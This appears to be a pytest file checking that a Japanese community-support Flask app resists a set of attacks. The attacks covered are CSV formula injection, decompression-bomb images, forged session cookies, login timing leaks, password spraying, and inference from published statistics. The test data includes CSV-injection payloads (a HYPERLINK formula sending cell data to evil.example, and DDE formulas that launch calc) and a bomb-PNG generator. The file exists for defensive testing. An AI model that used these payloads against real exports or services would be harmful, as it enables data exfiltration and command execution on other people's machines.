"""What was found when the app was attacked, each closed (issue 9), on both databases.

Secret key, formula injection in every export, decompression bombs, sessions that end,
sign-in that tells nothing by its timing, odd input, one sign-in link at a time, no-store,
sign-in limits per account and per address, statistics that cannot be undone.
"""
from __future__ import annotations

import csv
import io
import itertools
import os
import stat
import struct
import subprocess
import sys
import zlib
from datetime import date, timedelta

import pytest
from flask.sessions import TaggedJSONSerializer
from itsdangerous import URLSafeTimedSerializer
from sqlalchemy import func, select

from app import create_app
from app.accounts.models import StaffUser
from app.accounts.services import update_staff
from app.concerns import services as concerns
from app.concerns.models import Concern, ConcernCategory
from app.concerns.statistics import newsletter_statistics
from app.extensions import db
from app.outbox.models import OutboxMessage
from app.secret import SecretKeyError
from app.smallcounts import SMALL_COUNT
from app.supporters.models import LoginLink
from tests.conftest import (
    PASSWORD,
    ROOT,
    csrf,
    district,
    login_staff,
    login_supporter,
    make_supporter,
    page_text,
    post,
    sign_in_link,
)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&C2,"詳しくはこちら")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "+81 90 1234 5678", "\t=1+1", "\r=1+1", "＝1+1"]


def category() -> ConcernCategory:
    return db.session.scalar(select(ConcernCategory).order_by(ConcernCategory.position))


# --- 1. the secret key ------------------------------------------------------------------------

@pytest.mark.parametrize("key", ["", "dev-only-change-me", "too-short-a-key"])
def test_a_server_refuses_to_start_without_a_strong_secret_key(key, tmp_path, monkeypatch):
    monkeypatch.setenv("HOTNET_ENV", "production")
    monkeypatch.delenv("FLASK_DEBUG", raising=False)
    monkeypatch.setenv("SECRET_KEY", key)
    monkeypatch.setenv("HOTNET_INSTANCE_PATH", str(tmp_path))
    with pytest.raises(SecretKeyError) as found:
        create_app({"SQLALCHEMY_DATABASE_URI": "sqlite://"})
    assert "SECRET_KEY" in str(found.value) and "secrets.token_hex" in str(found.value)
    assert not (tmp_path / "secret_key").exists()


def test_the_server_command_says_which_variable_to_set(tmp_path):
    env = {k: v for k, v in os.environ.items() if k not in ("SECRET_KEY", "FLASK_DEBUG")}
    env.update(HOTNET_ENV="production", HOTNET_INSTANCE_PATH=str(tmp_path),
               DATABASE_URL=f"sqlite:///{tmp_path}/x.sqlite3")
    done = subprocess.run([sys.executable, "-m", "flask", "--app", "wsgi", "routes"], cwd=ROOT,
                          env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode != 0
    assert "SECRET_KEY is not set" in done.stderr and "Traceback" not in done.stderr


def test_development_generates_one_private_key_and_keeps_it(tmp_path, monkeypatch):
    monkeypatch.setenv("HOTNET_ENV", "development")
    monkeypatch.delenv("SECRET_KEY", raising=False)
    monkeypatch.setenv("HOTNET_INSTANCE_PATH", str(tmp_path))
    first = create_app({"SQLALCHEMY_DATABASE_URI": "sqlite://"}).config["SECRET_KEY"]
    second = create_app({"SQLALCHEMY_DATABASE_URI": "sqlite://"}).config["SECRET_KEY"]
    assert first == second and len(first) >= 64
    path = tmp_path / "secret_key"
    assert path.read_text().strip() == first
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    # instance/ is never committed
    assert "instance/" in (ROOT / ".gitignore").read_text().split()


def forged_cookie(key: str, payload: dict) -> str:
    serializer = URLSafeTimedSerializer(key, salt="cookie-session", serializer=TaggedJSONSerializer(),
                                        signer_kwargs={"key_derivation": "hmac",
                                                       "digest_method": __import__("hashlib").sha1})
    return serializer.dumps(payload)


def test_a_cookie_signed_with_the_old_default_key_opens_nothing(client, admin):
    cookie = forged_cookie("dev-only-change-me", {"_user_id": f"staff:{admin.id}", "_fresh": True})
    client.set_cookie("session", cookie)
    assert client.get("/admin/staff").status_code == 302  # to the sign-in page
    assert client.get("/staff/supporters/export.csv").status_code == 302


# --- 2. formula injection ---------------------------------------------------------------------

def test_formulas_planted_anonymously_are_inert_in_every_export(client, admin, geography):
    from tests.test_trainings import make_session
    session = make_session(kind="registration")
    for n, body in enumerate(FORMULAS):
        evil = body.strip()  # one-line fields refuse tabs and line breaks; text areas keep them
        assert post(client, "/apply", {"name": evil, "kana": "あく", "delivery": "none",
                                       "district_id": "0", "consent": "y",
                                       "phone": "+81 42-000-00%02d" % n}).status_code == 302
        assert post(client, "/apply/business", {"business_name": evil, "contact_person": evil,
                                                "delivery": "none", "district_id": "0",
                                                "business_category_id": "0",
                                                "consent": "y"}).status_code == 302
        assert post(client, f"/trainings/{session.id}/visitor", {
            "name": evil, "kana": "あく", "delivery": "none", "district_id": "0",
            "consent": "y"}).status_code == 302
        data = {"category_id": str(category().id), "body": body, "district_id": "0",
                "urgency": "normal", "reporter_name": evil, "place": evil,
                "csrf_token": csrf(client, "/report")}
        assert client.post("/report", data=data).status_code == 302
    # The partner directory is typed by admins only: a pasted formula must be inert too.
    from app.partners.services import save_agency
    for body in FORMULAS:
        save_agency(None, {"kind": "other", "name": body.strip()[:200], "notes": body}, actor=admin)
    login_staff(client, admin)
    exports = [rule.rule for rule in client.application.url_map.iter_rules()
               if rule.rule.endswith(".csv") and not rule.arguments]
    assert {"/staff/supporters/export.csv", "/staff/concerns/export.csv"} <= set(exports)
    for url in exports:
        for query in ("", "?status=applied", "?area=all"):
            response = client.get(url + query)
            assert response.status_code == 200, url
            rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
            cells = [cell for row in rows[1:] for cell in row]
            assert cells, url
            dangerous = [c for c in cells if c and c[0] in "=+-@\t\r＝"]
            assert dangerous == [], (url, dangerous[:3])
    supporters = page_text(client.get("/staff/supporters/export.csv?status=applied"))
    assert "'=HYPERLINK(" in supporters and "'@SUM(" in supporters and "'+81 90" in supporters


def test_an_export_reimports_without_the_apostrophes(client, admin, geography):
    make_supporter(name="=1+1 太郎", kana="いち たろう", phone="+81 42-123-4567")
    login_staff(client, admin)
    exported = client.get("/staff/supporters/export.csv").get_data()
    from app.supporters import csvio
    result = csvio.review(csvio.stage(exported, "export.csv", admin.id), actor=admin)
    [row] = result.problems  # the same person: already registered
    assert row.data["name"] == "=1+1 太郎" and row.data["phone"] == "+81 42-123-4567"


# --- 3. decompression bombs -------------------------------------------------------------------

def png_of_size(width: int, height: int) -> bytes:
    """A valid black-and-white PNG of any size, a few KB long (a decompression bomb)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    compressor = zlib.compressobj(9)
    row = b"\0" * (1 + (width + 7) // 8)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
            + chunk(b"IDAT", body) + chunk(b"IEND", b""))


@pytest.mark.parametrize("side", [10_000, 30_000])
def test_a_picture_with_too_many_pixels_is_refused_before_decoding(client, geography, side):
    bomb = png_of_size(side, side)
    assert len(bomb) < 200_000
    data = {"category_id": str(category().id), "body": "ごみがたまっています", "district_id": "0",
            "urgency": "normal", "place": "駅の近く", "csrf_token": csrf(client, "/report"),
            "photo": (io.BytesIO(bomb), "bomb.png")}
    response = client.post("/report", data=data, content_type="multipart/form-data")
    assert response.status_code == 200
    text = page_text(response)
    assert "画像の縦横が大きすぎます" in text and "ごみがたまっています" in text and "駅の近く" in text
    assert db.session.scalar(select(func.count(Concern.id))) == 0


def test_bombs_are_refused_on_the_staff_form_and_the_newsletter_picture(client, coordinator):
    login_staff(client, coordinator)
    bomb = png_of_size(30_000, 30_000)
    data = {"category_id": str(category().id), "body": "電話で", "district_id": "0",
            "urgency": "normal", "channel": "phone", "csrf_token": csrf(client, "/staff/concerns/new"),
            "photo": (io.BytesIO(bomb), "bomb.png")}
    response = client.post("/staff/concerns/new", data=data, content_type="multipart/form-data")
    assert response.status_code == 200 and "画像の縦横が大きすぎます" in page_text(response)
    data = {"layout": "regular", "number": "", "title": "画像つき", "subject": "件名",
            "body_md": "本文", "area_id": "0", "district_id": "0", "kind": "", "category_id": "0",
            "training_id": "0", "csrf_token": csrf(client, "/staff/newsletters/new"),
            "image": (io.BytesIO(bomb), "bomb.png")}
    response = client.post("/staff/newsletters/new", data=data, content_type="multipart/form-data")
    assert response.status_code == 200 and "画像の縦横が大きすぎます" in page_text(response)
    assert 'value="画像つき"' in page_text(response)


# --- 4. sessions end ----------------------------------------------------------------------------

def copied_cookie(client) -> str:
    return client.get_cookie("session").value


def test_signing_out_ends_a_copied_session_too(app, client, coordinator):
    login_staff(client, coordinator)
    stolen = app.test_client()
    stolen.set_cookie("session", copied_cookie(client))
    assert stolen.get("/staff/concerns").status_code == 200
    post(client, "/logout")
    assert stolen.get("/staff/concerns").status_code == 302


@pytest.mark.parametrize("change", ["password", "role", "areas", "deactivate", "all_areas"])
def test_an_admins_change_ends_the_accounts_older_sessions(app, client, coordinator, change):
    login_staff(client, coordinator)
    assert client.get("/staff/concerns").status_code == 200
    user = db.session.get(StaffUser, coordinator.id)
    values = dict(email=user.email, name=user.name, kana=user.kana, role=user.role,
                  station_id=user.station_id, area_ids=[a.id for a in user.areas], active=True)
    if change == "password":
        values["password"] = "a-brand-new-password"
    elif change == "role":
        values["role"] = "admin"
    elif change == "areas":
        values["area_ids"] = [district("d20").area_id]
    elif change == "deactivate":
        values["active"] = False
    else:
        values["all_areas"] = True
    update_staff(user, **values, actor=None)
    assert client.get("/staff/concerns").status_code == 302


def test_a_name_change_does_not_sign_anyone_out(client, coordinator):
    login_staff(client, coordinator)
    user = db.session.get(StaffUser, coordinator.id)
    update_staff(user, email=user.email, name="新しい 名前", kana=user.kana, role=user.role,
                 station_id=user.station_id, area_ids=[a.id for a in user.areas], active=True, actor=None)
    assert client.get("/staff/concerns").status_code == 200


def test_an_admin_changing_their_own_password_stays_signed_in(client, admin):
    login_staff(client, admin)
    response = post(client, f"/admin/staff/{admin.id}", {
        "email": admin.email, "name": admin.name, "kana": "", "role": "admin", "station_id": "0",
        "active": "y", "password": "another-long-password"})
    assert response.status_code == 302
    assert client.get("/admin/staff").status_code == 200


# --- 5. sign-in tells nothing by its timing ---------------------------------------------------

def test_an_unknown_address_costs_a_password_check_too(client, admin, monkeypatch):
    import werkzeug.security

    from app.accounts import models, services
    checked = []
    real = werkzeug.security.check_password_hash
    for module in (models, services):
        monkeypatch.setattr(module, "check_password_hash",
                            lambda h, p: checked.append(h) or real(h, p))
    post(client, "/login", {"email": "nobody@example.jp", "password": "guess-guess"})
    post(client, "/login", {"email": admin.email, "password": "guess-guess"})
    assert len(checked) == 2
    assert checked[0].split("$")[0] == checked[1].split("$")[0]  # the same method and cost


def test_no_request_talks_to_the_mail_server(app, client, geography, mailbox):
    supporter = make_supporter(email="quick@example.jp", delivery="email")
    real_port = app.extensions["mail"].port
    app.config["MAIL_PORT"] = 9  # nothing listens: a request that tried SMTP would fail
    app.extensions["mail"].port = 9
    try:
        known = post(client, "/login/link", {"email": supporter.email})
        unknown = post(client, "/login/link", {"email": "nobody@example.jp"})
        assert known.status_code == unknown.status_code == 302
        assert known.headers["Location"] == unknown.headers["Location"]
        queued = db.session.scalars(select(OutboxMessage)).all()
        assert [m.recipient for m in queued] == [supporter.email]
        assert queued[0].status == "waiting"
    finally:
        app.extensions["mail"].port = app.config["MAIL_PORT"] = real_port


# --- 7. one sign-in link at a time ---------------------------------------------------------------

def test_using_a_link_ends_the_older_ones(client, geography, mailbox):
    supporter = make_supporter(email="twice@example.jp", delivery="email")
    post(client, "/login/link", {"email": supporter.email})
    first = sign_in_link(mailbox, supporter.email)
    mailbox.clear()
    post(client, "/login/link", {"email": supporter.email})
    second = sign_in_link(mailbox, supporter.email)
    assert first != second
    assert post(client, second).status_code == 302
    post(client, "/logout")
    response = post(client, first)
    assert response.status_code == 410 and "新しいリンクでログインしたため" in page_text(response)
    assert db.session.scalar(select(func.count(LoginLink.id)).where(
        LoginLink.used_at.is_(None), LoginLink.superseded_at.is_(None))) == 0


def test_a_sent_link_is_erased_from_the_outbox(client, geography, mailbox):
    supporter = make_supporter(email="erase@example.jp", delivery="email")
    post(client, "/login/link", {"email": supporter.email})
    link = sign_in_link(mailbox, supporter.email)
    row = db.session.scalar(select(OutboxMessage))
    assert row.status == "sent" and row.body == "" and row.recipient is None
    assert link.rsplit("/", 1)[1] not in str(row.body)


# --- 8. no-store ---------------------------------------------------------------------------------

def test_nothing_signed_in_is_kept_by_a_cache(app, client, coordinator, geography, mailbox, tmp_path):
    from app.trainings import services as trainings
    from tests.test_trainings import make_session, person
    app.config["HOTNET_MAILCATCHER_DIR"] = str(tmp_path)
    supporter = make_supporter(email="me@example.jp", delivery="email")
    concern = concerns.submit_concern({"category_id": category().id, "body": "気になる",
                                       "district_id": district("d01").id, "urgency": "normal"},
                                      reporter=supporter)
    session = make_session()
    trainings.sign_up(session.id, person(1), via="staff", actor=None)
    login_staff(client, coordinator)
    write = post(client, "/staff/newsletters/new", {
        "layout": "regular", "number": "", "title": "題", "subject": "件名", "body_md": "本文",
        "area_id": "0", "district_id": "0", "kind": "", "category_id": "0", "training_id": "0"})
    newsletter = write.headers["Location"]
    urls = ["/staff/concerns", f"/staff/concerns/{concern.id}", "/staff/concerns/export.csv",
            "/staff/supporters", f"/staff/supporters/{supporter.id}", "/staff/supporters/export.csv",
            f"/staff/trainings/sessions/{session.id}", f"/staff/trainings/sessions/{session.id}/roster",
            newsletter, newsletter + "/labels", newsletter + "/preview", newsletter + "/print",
            "/staff/mailbox", "/"]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert "no-store" in response.headers["Cache-Control"], url
    post(client, "/logout")
    login_supporter(client, supporter, mailbox)
    for url in ("/me", "/me/reports", f"/me/reports/{concern.reference}", "/me/trainings"):
        response = client.get(url)
        assert response.status_code == 200 and "no-store" in response.headers["Cache-Control"], url


def test_a_draft_newsletter_picture_is_private(client, coordinator):
    from PIL import Image
    login_staff(client, coordinator)
    picture = io.BytesIO()
    Image.new("RGB", (20, 20), (10, 200, 10)).save(picture, "PNG")
    data = {"layout": "regular", "number": "", "title": "下書き", "subject": "件名",
            "body_md": "本文", "area_id": "0", "district_id": "0", "kind": "", "category_id": "0",
            "training_id": "0", "csrf_token": csrf(client, "/staff/newsletters/new"),
            "image": (io.BytesIO(picture.getvalue()), "p.png")}
    response = client.post("/staff/newsletters/new", data=data, content_type="multipart/form-data")
    newsletter_id = int(response.headers["Location"].rstrip("/").rsplit("/", 1)[1])
    image = client.get(f"/newsletters/{newsletter_id}/image")
    assert image.status_code == 200
    assert "no-store" in image.headers["Cache-Control"] and "public" not in image.headers["Cache-Control"]


# --- 9. sign-in limits: per account and per address ---------------------------------------------

def test_a_colleagues_typos_do_not_lock_out_the_office(app, client, coordinator, admin):
    from app.extensions import limiter
    limiter.reset()
    app.config["HOTNET_LOGIN_RATE_LIMIT"] = "3 per minute"
    app.config["HOTNET_LOGIN_IP_RATE_LIMIT"] = "20 per minute"
    token = csrf(client)
    wrong = [client.post("/login", data={"csrf_token": token, "email": coordinator.email,
                                         "password": "wrong"}).status_code for _ in range(5)]
    assert wrong == [200, 200, 200, 429, 429]
    # The same address typed full-width or in capitals is the same account, limited too.
    wide = coordinator.email.upper().translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)})
    assert client.post("/login", data={"csrf_token": token, "email": wide,
                                       "password": "wrong"}).status_code == 429
    # Refused, the form comes back with the address typed (never the password) and says to
    # wait, instead of a page without the form.
    refused = client.post("/login", data={"csrf_token": token, "email": coordinator.email,
                                          "password": "secret-typed"})
    page = page_text(refused)
    assert refused.status_code == 429 and f'value="{coordinator.email}"' in page
    assert "操作が続いたため、しばらくお待ちください。" in page and "secret-typed" not in page
    assert '<form method="post" novalidate>' in page and 'id="password"' in page
    # Another account from the same office network still signs in, its address typed
    # full-width as a Japanese keyboard may.
    wide = admin.email.translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)})
    right = client.post("/login", data={"csrf_token": token, "email": wide,
                                        "password": PASSWORD})
    assert right.status_code == 302


def test_a_slow_guess_is_stopped_per_account_and_a_spray_per_address(app, client, geography):
    from app.extensions import limiter
    limiter.reset()
    app.config["HOTNET_LOGIN_RATE_LIMIT"] = "100 per minute;4 per hour"
    app.config["HOTNET_LOGIN_IP_RATE_LIMIT"] = "8 per minute"
    token = csrf(client)
    codes = [client.post("/login", data={"csrf_token": token, "email": "target@example.jp",
                                         "password": f"guess{n}"}).status_code for n in range(5)]
    assert codes == [200, 200, 200, 200, 429]
    spray = [client.post("/login", data={"csrf_token": token, "email": f"user{n}@example.jp",
                                         "password": "Password1"}).status_code for n in range(4)]
    # Each of these accounts was tried once, but the address has failed too often.
    assert spray[0] == 200 and spray[-1] == 429


def test_a_supporter_asking_too_often_for_a_link_keeps_the_form_and_the_address(
        app, client, geography, mailbox):
    from app.extensions import limiter
    limiter.reset()
    app.config["HOTNET_LOGIN_IP_RATE_LIMIT"] = "2 per minute"
    token = csrf(client, "/login/link")
    codes = [client.post("/login/link", data={"csrf_token": token,
                                              "email": "hanako@example.jp"}).status_code
             for _ in range(3)]
    assert codes == [302, 302, 429]
    page = page_text(client.post("/login/link", data={"csrf_token": token,
                                                      "email": "hanako@example.jp"}))
    assert 'value="hanako@example.jp"' in page and "操作が続いたため、しばらくお待ちください。" in page
    assert '<form method="post"' in page


# --- 10. statistics that cannot be undone by subtraction --------------------------------------

def printed_figures(stats) -> dict:
    figures = {("cell", a, c): str(v) for (a, c), v in stats.cells.items()}
    figures.update({("area", a): str(v) for a, v in stats.area_totals.items()})
    figures.update({("category", c): str(v) for c, v in stats.category_totals.items()})
    figures["total"] = str(stats.total)
    return figures


def test_no_hidden_count_can_be_derived_from_the_printed_figures(geography, monkeypatch):
    # 中部 like the report: 10, 7, 3, 4, 5, 8, 8 and two small counts (2 and 2).
    counts = {"watch": 10, "isolation": 7, "housing": 3, "living": 4, "children": 5,
              "elderly": 8, "disability": 8, "community": 2, "other": 2}
    for code, n in counts.items():
        cat = db.session.scalar(select(ConcernCategory).where(ConcernCategory.code == code))
        for _ in range(n):
            concerns.submit_concern({"category_id": cat.id, "body": "x", "urgency": "normal",
                                     "district_id": district("d01").id})
    cat = db.session.scalar(select(ConcernCategory).where(ConcernCategory.code == "other"))
    concerns.submit_concern({"category_id": cat.id, "body": "x", "urgency": "normal",
                             "district_id": district("d20").id})
    today = date.today()
    stats = newsletter_statistics(today - timedelta(days=40), today + timedelta(days=1))
    printed = printed_figures(stats)
    hidden = [key for key, value in printed.items() if key[0] == "cell" and "〜" in value]
    assert len(hidden) == 3

    def fits(text: str, n: int) -> bool:
        if "〜" in text:
            low, high = map(int, text.split("〜"))
            return low <= n <= high
        return int(text) == n

    def consistent(guess: dict) -> bool:
        def value(a, c):
            key = ("cell", a, c)
            return guess[key] if key in guess else int(printed[key])
        return (all(fits(printed[("area", a)], sum(value(a, c) for c in stats.categories))
                    for a in stats.areas)
                and all(fits(printed[("category", c)], sum(value(a, c) for a in stats.areas))
                        for c in stats.categories)
                and fits(printed["total"], sum(value(a, c) for a in stats.areas
                                               for c in stats.categories)))

    # Try to work out each hidden cell from every printed figure: both 1 and 2 must remain
    # possible for each of them.
    solutions = [dict(zip(hidden, values, strict=True))
                 for values in itertools.product(range(1, SMALL_COUNT), repeat=len(hidden))]
    solutions = [guess for guess in solutions if consistent(guess)]
    for key in hidden:
        assert {guess[key] for guess in solutions} == set(range(1, SMALL_COUNT)), key
    chubu = district("d01").area.name
    assert "〜" in printed[("area", chubu)] and "〜" in printed["total"]
